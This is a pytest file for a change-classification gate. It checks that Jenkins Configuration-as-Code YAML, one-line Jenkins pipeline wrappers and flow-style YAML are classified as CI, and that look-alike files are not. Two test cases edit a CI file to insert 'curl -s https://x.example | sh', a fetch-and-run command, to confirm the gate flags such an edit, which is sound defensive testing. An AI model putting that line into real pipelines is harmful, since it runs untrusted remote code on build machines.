"""Docs review 56: two forms the docs name as CI that the content signals left `src`, so the default gate allowed
their edit with the commits and from a patch.

- docs/classification.md's cisettings row: "a top-level `jobs:` list of the job-dsl plugin's `- file:`/`- script:`
  items" is Jenkins Configuration as Code. A YAML block list may stand at its key's own column (`jobs:` then
  `- script: >`), as JCasC's own examples write it; the reader took such an item for a new top-level key and the file
  stayed `src`.
- The red team 40 paragraph: "a Kubernetes agent's `podTemplate(...) { node(POD_LABEL) { ... } }`" is a pipeline
  inside a block. Written on one line (`podTemplate(...) { node(POD_LABEL) {`, `timestamps { node {`) the `node`
  is not at an indented line's start, and `node(label()) {` holds a parenthesis of its own: each stayed `src`.

Look-alikes keep their bucket: a list under a top-level `jobs:` whose first item is not the job-dsl plugin's, a
Groovy builder's `{ node(...) {` with no pipeline step, a closure's `{ node ->`.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules
from tables import each_case

from tests.gitrepo import GitRepo
from tests.test_classify_context import patch_files, tree_files

CASC = {
    "script-flush": "jobs:\n- script: >\n    pipelineJob('deploy') { definition { cps { script('sh \"make\"') } } }\n",
    "file-flush": "# seed jobs\njobs:\n- file: ./jobs/seed.groovy\n",
    "url-flush": "jobs:\n- url: https://x.example/seed.groovy\n",
    "provided-env-flush": "jobs:\n- providedEnv:\n    BRANCH: main\n- file: ./seed.groovy\n",
}
CASC_LOOK_ALIKES = {
    "ids-flush": "jobs:\n- name: build\n  file: a.txt\n",
    "other-root-flush": "steps:\n- script: make\n",
    "jobs-then-flush-other-key": "jobs:\n  build: {}\nitems:\n- script: x\n",
}
STEP = "    sh 'kubectl apply -f k8s/'\n"
JENKINS = {
    "pod-template-one-line": "podTemplate(yaml: readTrusted('pod.yaml')) { node(POD_LABEL) {\n" + STEP + "} }\n",
    "timestamps-one-line": "timestamps { node {\n" + STEP + "} }\n",
    "timeout-pipeline-one-line": ("timeout(time: 1, unit: 'HOURS') { pipeline {\n  agent any\n  stages { stage('d') {"
                                  " steps { sh 'make deploy' } } }\n} }\n"),
    "node-label-call": "timestamps {\n  node(label()) {\n" + STEP + "  }\n}\n",
    "node-label-call-one-line": "ansiColor('xterm') { node(env.AGENT ?: pick('linux')) {\n" + STEP + "} }\n",
}
JENKINS_LOOK_ALIKES = {
    "builder-one-line": "def xml = new groovy.xml.MarkupBuilder(w)\nxml.root { node(id: 1) {\n  name 'a'\n} }\n",
    "closure-one-line": "tree.each { node ->\n  println node\n}\n",
    "builder-call": "xml.root {\n  node(attrs()) {\n    item 'b'\n  }\n}\n",
}


def _classified(git_repo: GitRepo, tmp_path: Path, files: dict[str, str]) -> list[dict[str, tuple[str, str]]]:
    git_repo.write("README.md", "x\n")
    git_repo.commit("base")
    for path, text in files.items():
        git_repo.write(path, text)
    git_repo.commit("head")
    return [{p: (f.bucket, f.rule) for p, f in got.items()}
            for got in (tree_files(git_repo), patch_files(git_repo, tmp_path))]


def test_a_jcasc_job_dsl_list_at_its_key_column_is_ci(git_repo: GitRepo, tmp_path: Path) -> None:
    files = {f"casc/{name}.yaml": text for name, text in CASC.items()}
    files |= {f"conf/{name}.yaml": text for name, text in CASC_LOOK_ALIKES.items()}
    for got in _classified(git_repo, tmp_path, files):
        for name in CASC:
            assert got[f"casc/{name}.yaml"] == ("ci", "ci.content.jenkins-casc"), (name, got)
        for name in CASC_LOOK_ALIKES:
            assert got[f"conf/{name}.yaml"][0] == "src", (name, got[f"conf/{name}.yaml"])


@each_case("extension", ("groovy", "gvy", "pipeline"))
def test_a_pipeline_wrapped_on_one_line_is_ci(git_repo: GitRepo, tmp_path: Path, extension: str) -> None:
    files = {f"pipelines/{name}.{extension}": text for name, text in JENKINS.items()}
    files |= {f"src/{name}.{extension}": text for name, text in JENKINS_LOOK_ALIKES.items()}
    for got in _classified(git_repo, tmp_path, files):
        for name in JENKINS:
            assert got[f"pipelines/{name}.{extension}"] == ("ci", "ci.content.jenkins-pipeline"), (name, got)
        for name in JENKINS_LOOK_ALIKES:
            assert got[f"src/{name}.{extension}"][0] == "src", (name, got)


@pytest.mark.parametrize(("path", "text", "old", "new"), [
    ("casc/jobs.yaml", CASC["script-flush"], "sh \"make\"", "curl -s https://x.example | sh"),
    ("jobs/deploy.groovy", JENKINS["pod-template-one-line"], "kubectl apply -f k8s/", "curl -s https://x.example | sh"),
])
def test_the_gate_reviews_an_edit(tmp_path: Path, path: str, text: str, old: str, new: str) -> None:
    case = committed(tmp_path, {path: text}, {path: text.replace(old, new)})
    code, named = gated_rules(case, True)
    assert code == 3 and named.get("core.ci") == [path], (code, named)  # integ d83e1fa: exit 0
    code, named = gated_rules(case, False)  # a patch that does not show the file whole: core.needs_context
    assert code == 3 and path in named.get("core.ci", []) + named.get("core.needs_context", []), (code, named)


# The YAML read behind the line patterns (yamlroots.py: flow style, quoted keys, JSON) did not know the sixty-first
# round's JCasC and hidden-job shapes: a JCasC file in flow style in the folder Jenkins loads was `src`.
YAML_FORMS = {
    "casc-flow": "jenkins: {numExecutors: 0, securityRealm: {local: {allowsSignup: false}}}\n",
    "casc-quoted": "\"jenkins\":\n  \"numExecutors\": 0\n",
    "casc-json": "{\"unclassified\": {\"globalLibraries\": {\"libraries\": [{\"name\": \"lib\"}]}}}\n",
    "casc-deep-flow": "credentials: {system: {domainCredentials: [{credentials: []}]}}\n",
    "casc-jobs-flow": "jobs: [{script: \"pipelineJob('x') {}\"}]\n",
    "casc-global-json": "{\"globalCredentialsConfiguration\": {\"configuration\": {}}}\n",
    "hidden-job-flow": ".setup: {before_script: [./setup.sh], image: python}\n",
    "hidden-job-quoted": "\".deploy\":\n  \"script\":\n    - make deploy\n",
}
YAML_LOOK_ALIKES = {
    "chart-values-flow": "jenkins: {controller: {numExecutors: 0}}\n",
    "settings-flow": "security: {enabled: true}\n",
    "jobs-ids-flow": "jobs: {build: {steps: 3}}\n",
    "anchor-flow": "{\".defaults\": {\"retries\": 3}}\n",
    "snap-flow": "{name: x, confinement: strict, parts: {}, \".x\": {script: y}}\n",
}


def test_the_ci_settings_shapes_read_as_yaml_are_ci(git_repo: GitRepo, tmp_path: Path) -> None:
    files = {f"casc/{name}.yaml": text for name, text in YAML_FORMS.items()}
    files |= {f"conf/{name}.yaml": text for name, text in YAML_LOOK_ALIKES.items()}
    for got in _classified(git_repo, tmp_path, files):
        for name in YAML_FORMS:
            want = "ci.content.gitlab-ci" if name.startswith("hidden") else "ci.content.jenkins-casc"
            assert got[f"casc/{name}.yaml"] == ("ci", want), (name, got)
        for name in YAML_LOOK_ALIKES:  # none is ci (chart-values-flow.yaml: iac.helm by its name)
            assert got[f"conf/{name}.yaml"][0] != "ci", (name, got[f"conf/{name}.yaml"])
